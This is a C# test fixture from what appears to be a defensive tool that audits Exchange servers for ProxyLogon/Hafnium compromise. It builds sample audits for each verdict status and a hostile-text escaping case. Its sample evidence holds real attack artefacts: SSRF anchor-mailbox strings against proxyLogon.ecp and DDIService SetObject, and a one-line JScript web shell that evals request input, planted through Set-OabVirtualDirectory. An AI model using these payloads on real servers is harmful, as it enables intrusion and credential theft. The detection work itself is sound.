using System;
using System.Collections.Generic;
using HafniumTools.Audit;
using HafniumTools.Builds;
using HafniumTools.Core;
using HafniumTools.Files;
using HafniumTools.Logs.Ecp;
using HafniumTools.Logs.HttpProxy;
using HafniumTools.Model;

namespace HafniumTools.ReportTests;

/// <summary>
/// Server audits shaped after the bundled sample data (samples/logs, samples/fleet), one server per status, decided
/// by the module's own verdict from findings of its real rules: what Invoke-HafniumAudit gives for such servers. And a
/// server whose evidence is hostile text, for the escaping tests.
/// </summary>
internal static class SampleFleet
{
    private static readonly DateTime March3 = new(2021, 3, 3, 1, 12, 40, DateTimeKind.Utc);

    /// <summary>Every status once: Compromised, Exploited, Attempted, Probed, Clean, Unknown (no evidence) and Unknown (unreachable).</summary>
    public static IReadOnlyList<ServerAudit> Audits() =>
    [
        Compromised(), Exploited(), Attempted(), Probed(), Clean(), NoEvidence(), Unreachable(),
    ];

    public static ServerAudit Compromised()
    {
        var e = Evidence("EXCH01.contoso.com", "15.1.2106.2", FindingCategory.HttpProxy, FindingCategory.Ecp, FindingCategory.FileSystem);
        const string Attacker = "103.77.192.219";
        const string Shell = @"C:\inetpub\wwwroot\aspnet_client\supp0rt.aspx";
        e.Findings.Add(Request(HttpProxyRuleCatalog.SsrfAnchor, e, March3, Attacker, "/ecp/y.js", "ServerInfo~a]@exch01.contoso.com:444/autodiscover/autodiscover.xml?#", 200));
        e.Findings.Add(Request(HttpProxyRuleCatalog.EcpLogon241, e, March3.AddSeconds(5), Attacker, "/ecp/DbYf.js", "ServerInfo~a]@exch01.contoso.com:444/ecp/proxyLogon.ecp?#", 241));
        e.Findings.Add(Request(HttpProxyRuleCatalog.OabSetObject, e, March3.AddSeconds(7), Attacker, "/ecp/DbYf.js", "ServerInfo~a]@exch01.contoso.com:444/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory#", 200));
        e.Findings.Add(new Finding(EcpRuleCatalog.ScriptInVirtualDirectoryUrl, e.ComputerName)
        {
            Timestamp = March3.AddSeconds(9),
            Path = @"C:\Program Files\Microsoft\Exchange Server\V15\Logging\ECP\Server\ECPServer20210303-1.LOG",
            LineNumber = 14,
            Operation = "Set-OabVirtualDirectory",
            RawText = "Set-OabVirtualDirectory -ExternalUrl 'http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"orange\"],\"unsafe\");}</script>'",
        });
        e.Findings.Add(new Finding(WebShellRules.EvalOfRequestInput, e.ComputerName)
        {
            Path = Shell,
            LineNumber = 1,
            FileSize = 2189,
            FileModified = March3.AddSeconds(12),
            FileSha256 = "b75f163ca9b9240bf4b37ad92bc7556b40a17e27c2b8ed5c8991385fe07d17d0",
            RawText = "<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"orange\"],\"unsafe\");}</script>",
        });
        e.Findings.Add(Request(HttpProxyRuleCatalog.WebShellAnswered, e, March3.AddMinutes(3), "5.2.69.14", "/aspnet_client/supp0rt.aspx", null, 200));
        e.Findings.Add(new Finding(WebShellRules.LsassDump, e.ComputerName) { Path = @"C:\Windows\Temp\lsass.dmp", FileSize = 52_428_800, FileModified = March3.AddMinutes(20) });
        return ServerVerdict.Decide(e);
    }

    public static ServerAudit Exploited()
    {
        var e = Evidence("EXCH05.contoso.com", "15.1.2106.2", FindingCategory.HttpProxy, FindingCategory.Ecp, FindingCategory.FileSystem);
        e.Findings.Add(Request(HttpProxyRuleCatalog.SsrfAnchor, e, March3.AddSeconds(4), "103.77.192.219", "/ecp/DbYf.js", "ServerInfo~a]@exch05.contoso.com:444/mapi/emsmdb/?#", 200));
        e.Findings.Add(Request(HttpProxyRuleCatalog.EcpLogon241, e, March3.AddSeconds(5), "103.77.192.219", "/ecp/DbYf.js", "ServerInfo~a]@exch05.contoso.com:444/ecp/proxyLogon.ecp?#", 241));
        return ServerVerdict.Decide(e);
    }

    public static ServerAudit Attempted()
    {
        var e = Evidence("EXCH04.contoso.com", "15.1.2242.4", FindingCategory.HttpProxy, FindingCategory.Ecp, FindingCategory.FileSystem);
        var at = new DateTime(2021, 3, 8, 21, 3, 17, DateTimeKind.Utc);
        e.Findings.Add(Request(HttpProxyRuleCatalog.AutodiscoverOnly, e, at, "45.77.252.7", "/ecp/y.js", "ServerInfo~a]@exch04.contoso.com:444/autodiscover/autodiscover.xml?#", 500, "ExchangeServicesClient/0.0.0.0"));
        e.Findings.Add(Request(HttpProxyRuleCatalog.AutodiscoverOnly, e, at.AddSeconds(7), "45.77.252.7", "/ecp/y.js", "ServerInfo~a]@exch04.contoso.com:444/autodiscover/autodiscover.xml?#", 500, "python-requests/2.25.1"));
        return ServerVerdict.Decide(e);
    }

    public static ServerAudit Probed()
    {
        var e = Evidence("EXCH03.contoso.com", "15.2.792.10", FindingCategory.HttpProxy, FindingCategory.Ecp, FindingCategory.FileSystem);
        e.Findings.Add(Request(HttpProxyRuleCatalog.LocalhostProbe, e, new DateTime(2021, 3, 5, 11, 42, 9, DateTimeKind.Utc), "192.0.2.90", "/owa/auth/x.js", "localhost~1942062522", 500, "Mozilla/5.0 zgrab/0.x"));
        return ServerVerdict.Decide(e);
    }

    public static ServerAudit Clean() =>
        ServerVerdict.Decide(Evidence("EXCH02.contoso.com", "15.1.2176.9", FindingCategory.HttpProxy, FindingCategory.Ecp, FindingCategory.FileSystem));

    public static ServerAudit NoEvidence()
    {
        var e = new ServerEvidence("EXCH06", "triage") { Build = Build("15.2.858.5") };
        e.Problems.Add(ScanProblem.Error(ErrorIds.NoEvidenceRead, ProblemCategory.ObjectNotFound, "The triage folder EXCH06 holds no logs and no web folders; only ExSetup's version was collected.", "EXCH06"));
        return ServerVerdict.Decide(e);
    }

    public static ServerAudit Unreachable() => ServerVerdict.Decide(new ServerEvidence("EXCH07.contoso.com", "remote")
    {
        NotAuditedReason = "WinRM could not connect to EXCH07.contoso.com (the WinRM client cannot process the request: the server is unreachable).",
        FixCommand = "Test-WSMan -ComputerName EXCH07.contoso.com",
    });

    /// <summary>A server whose evidence carries every kind of hostile text in every field an attacker writes.</summary>
    public static ServerAudit Hostile(IReadOnlyList<string> payloads, string longText)
    {
        var e = Evidence("EXCH66.contoso.com", "15.1.2106.2", FindingCategory.HttpProxy, FindingCategory.Ecp, FindingCategory.FileSystem);
        for (int i = 0; i < payloads.Count; i++)
        {
            string payload = payloads[i];
            e.Findings.Add(new Finding(HttpProxyRuleCatalog.SsrfAnchor, e.ComputerName)
            {
                Timestamp = March3.AddMinutes(i),
                ClientIp = "198.51.100." + (10 + i),
                UserAgent = payload,
                Url = payload,
                AnchorMailbox = payload,
                Operation = payload,
                Detail = payload,
                RawText = payload,
                Title = payload,
                Path = payload,
                HttpStatus = 200,
            });
        }

        e.Findings.Add(new Finding(HttpProxyRuleCatalog.SsrfAnchor, e.ComputerName) { Timestamp = March3.AddHours(1), ClientIp = "198.51.100.99", UserAgent = longText, Url = "/owa/" + longText, HttpStatus = 200 });
        var audit = ServerVerdict.Decide(e);
        return new ServerAudit
        {
            ComputerName = audit.ComputerName,
            Status = audit.Status,
            Summary = audit.Summary,
            PatchStatus = audit.PatchStatus,
            Build = audit.Build,
            BuildName = audit.BuildName,
            MissingCves = audit.MissingCves,
            OpenCves = audit.OpenCves,
            AttackerAddresses = audit.AttackerAddresses,
            PlantedFiles = new TextList([.. payloads]),
            Timeline = audit.Timeline,
            Coverage = audit.Coverage,
            CoverageGaps = new TextList([.. payloads]),
            Errors = new TextList([.. payloads]),
            RecommendedActions = new TextList([.. payloads]),
            Findings = audit.Findings,
            AuditedAt = audit.AuditedAt,
            Origin = payloads[0],
        };
    }

    private static ServerEvidence Evidence(string server, string build, params FindingCategory[] read)
    {
        var e = new ServerEvidence(server, "triage") { Build = Build(build), AuditedAt = new DateTime(2021, 3, 10, 9, 0, 0, DateTimeKind.Utc) };
        foreach (var category in read)
        {
            bool logs = category != FindingCategory.FileSystem;
            e.Coverage.Add(new ScanCoverage(server, category, category switch
            {
                FindingCategory.HttpProxy => "HttpProxy/Ecp",
                FindingCategory.Ecp => "ECP/Server",
                _ => "WebFolders",
            })
            {
                Files = logs ? 24 : 1_310,
                Bytes = logs ? 48_213_557 : 96_004_112,
                Lines = logs ? 181_220 : 0,
                FirstTimestamp = logs ? new DateTime(2020, 12, 28, 0, 0, 1, DateTimeKind.Utc) : null,
                LastTimestamp = logs ? new DateTime(2021, 3, 9, 23, 59, 58, DateTimeKind.Utc) : null,
            });
        }

        return e;
    }

    private static Finding Request(DetectionRule rule, ServerEvidence e, DateTime time, string client, string url, string? anchor, int status, string userAgent = "python-requests/2.25.1") =>
        new(rule, e.ComputerName)
        {
            Timestamp = time,
            ClientIp = client,
            Url = "https://" + e.ComputerName.ToLowerInvariant() + url,
            AnchorMailbox = anchor,
            UserAgent = userAgent,
            HttpStatus = status,
            Operation = "POST",
            Path = @"C:\Program Files\Microsoft\Exchange Server\V15\Logging\HttpProxy\Ecp\HttpProxy_2021030301-1.LOG",
            LineNumber = 17 + (int)(time - March3).TotalSeconds,
        };

    private static BuildAudit Build(string version)
    {
        var reading = new BuildInputReader().ReadText(version, BuildVersionSource.FileVersion);
        return reading.Observation is { } observation
            ? new BuildAuditor(BuildCatalog.Embedded).Audit(observation)
            : throw new ArgumentException(reading.Reason, nameof(version));
    }
}
